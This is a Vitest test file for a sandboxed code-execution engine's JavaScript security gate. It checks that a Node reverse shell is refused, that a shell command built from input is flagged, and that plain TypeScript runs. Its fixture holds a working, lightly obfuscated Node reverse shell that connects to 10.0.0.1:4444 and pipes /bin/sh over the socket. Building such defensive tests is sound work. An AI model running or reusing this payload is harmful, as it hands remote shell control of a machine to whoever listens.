// The JavaScript/TypeScript rules in front of real sandboxes: a governed engine refuses a Node reverse shell
// before any of it runs, warns on a shell command built from input, and lets a plain TypeScript program through.

import { afterEach, describe, expect, it } from "vitest";
import { isSandgateError } from "../../src/errors/index.js";
import type { Engine } from "../../src/execution/index.js";
import { createTestEngine, type TestEngine } from "../helpers.js";

const open: TestEngine[] = [];
afterEach(async () => {
  for (const fx of open.splice(0)) await fx.close();
});

function governed(): Engine {
  const fx = createTestEngine({}, { python: 0, javascript: 0, bash: 0 }, { governed: true });
  open.push(fx);
  return fx.engine;
}

const NODE_REVERSE_SHELL = [
  `require("fs").writeFileSync("/workspace/ran", "yes");`,
  `const net = require("net"), { spawn: s } = require("child_" + "process");`,
  `const sh = s("/bin/sh", []);`,
  `const client = new net.Socket();`,
  `client.connect(4444, "10.0.0.1", () => { client.pipe(sh.stdin); sh.stdout.pipe(client); });`,
].join("\n");

describe("JavaScript analysis at the execution gate", () => {
  it("refuses a Node reverse shell with POLICY_BLOCKED before its first line runs", async () => {
    const engine = governed();
    engine.sessions.ensure("s", "alice");
    let refused: unknown;
    await engine.execute({ language: "javascript", code: NODE_REVERSE_SHELL, sessionId: "s", owner: "alice" }).catch((error: unknown) => (refused = error));
    expect(isSandgateError(refused) && refused.code).toBe("POLICY_BLOCKED");
    expect(isSandgateError(refused) && refused.message).toMatch(/reverse-shell/);
    expect((await engine.files.list("s", ".", "alice")).entries.map((e) => e.name)).not.toContain("ran");
  });

  it("runs a shell command built from input with a high-risk security summary on the result", async () => {
    const engine = governed();
    const code = `const { execSync } = require("child_process");\nconst dir = process.argv[1] ? "." : "/";\nconsole.log(execSync("ls " + dir).toString().length > 0);`;
    const result = await engine.execute({ language: "javascript", code, owner: "bob" });
    expect(result.security).toMatchObject({ level: "high" });
    expect(result.security?.findings[0]).toMatchObject({ ruleId: "js.process-exec.shell-command", line: 3 });
    expect(result.security?.action).not.toBe("block");
  });

  it("lets a plain TypeScript program with generics, enums and casts through with risk 0", async () => {
    const engine = governed();
    const code = `enum Unit { Kg = "kg" }\nclass Box<T> { constructor(readonly value: T) {} }\nconst b = new Box<number>(41 as number);\nconsole.log(\`\${b.value + 1} \${Unit.Kg}\`);`;
    const result = await engine.execute({ language: "typescript", code, owner: "carol" });
    expect(result.stdout).toContain("42 kg");
    expect(result.security).toMatchObject({ risk: 0, level: "none", action: "allow", findings: [] });
  });
});
